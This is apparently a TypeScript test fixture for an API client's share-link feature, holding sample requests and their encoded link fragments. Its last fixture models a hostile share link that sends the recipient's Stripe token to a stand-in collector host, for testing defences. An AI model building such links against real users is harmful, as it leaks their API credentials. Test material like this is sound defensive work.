// A share link's request and its fragment, for the tester's share stories; lib/share.test.ts
// checks that the fragment still opens this request (mocks import nothing from features).
export const sharedCustomerRequest = {
  method: 'POST',
  url: 'https://api.stripe.com/v1/customers?expand=sources',
  headers: { 'Content-Type': 'application/json', Authorization: 'Bearer {{token}}' },
  body: '{\n  "email": "ada@example.com"\n}',
  followRedirects: true,
  graphql: false,
  auth: { kind: 'bearer', name: 'X-API-Key' },
} as const

/** `encodeShare(sharedCustomerRequest)`. */
export const sharedCustomerFragment =
  '#share=1.Hc89T8MwFIXhvxKd2WnEaglBYUIMVNCBwcttckvc-gv7Bhoi_3eUrGd5n7PAs4xxgMbh7eMIhSk7aIwiqeiuo2R3RbJNvOuj737uun4qEj3n8sC3RGG4L3HKPRcojEwD5wK94DkG4SDtcU4MDUrJ2Z7ExtBdSgxQ2E8yxmz_thEaT0yZc7MsEq8cakVVOMVhhsZiQtMYsCfrDHRjQAM98o18cpvLwIQKhXN0Lv6-82Az91KgJU-s8JUpjd8O-kyusAJNMq7Iqw3r8dNWhkIgv2I_2_3hpX3lGbX-Aw'

/** The same link cut short, as a chat app that wraps long lines leaves it. */
export const cutShortFragment = sharedCustomerFragment.slice(0, -20)

/** A GraphQL request: the link turns the recipient's GraphQL mode on. */
export const sharedGraphqlRequest = {
  method: 'POST',
  url: 'https://countries.trevorblades.com/graphql',
  headers: { 'Content-Type': 'application/json' },
  body: '{\n  "query": "query Country($code: ID!) {\\n  country(code: $code) {\\n    name\\n    capital\\n  }\\n}",\n  "variables": {\n    "code": "NO"\n  }\n}',
  followRedirects: true,
  graphql: true,
  auth: null,
} as const

/** `encodeShare(sharedGraphqlRequest)`. */
export const sharedGraphqlFragment =
  '#share=1.NY-9TsQwEIRfxYwoQAqX3u3R0HAIrnTj2AsxcmyfvT4URXl3lL9uRt_szu6EgbiPFhIfl68rGtTsIdEzpyLb1sQaODsqJ850j7nz2lI5mTi0P1mn_ubRoCdtKRfICecYmAK_XMdEkNApeWc0uxja3xID5gZdtCMkJhWEULhVyqOCPKQ4r43j06OJlqR4e314FpNawmYnG1j5gYQIeqBdGp0ca7-6WakwKzRb2V1npztPZSmctrTCsmi74P2isE2FGQ2-o_fx75Osy2S4QHKu1OB4fLe6cg8ZqvfzPw'

/**
 * A link someone else made that aims `{{stripeToken}}` at a host of their own:
 * `encodeShare({ method: 'GET', url: 'https://collector.example/v1/charges', headers:
 * { Authorization: 'Bearer {{stripeToken}}' }, body: '', ... })`.
 */
export const secretsElsewhereFragment =
  '#share=1.BcFLDsIwDAXAq6C3jojYegcSYo96gdC6pMKti-Pwq3J3ZjbM7FkHEC7nDgHVBITsvhaKsVcR7l1tz580r8LxdYh9TnbngoDMaWAroA3H6llt-iWfdAHhxMnYdttW3KaVO33w0hpawE2HLwgIGFVE31ceJuPeC8itcsDd0pqfAhqTFA5I1TNoqSLtDw'
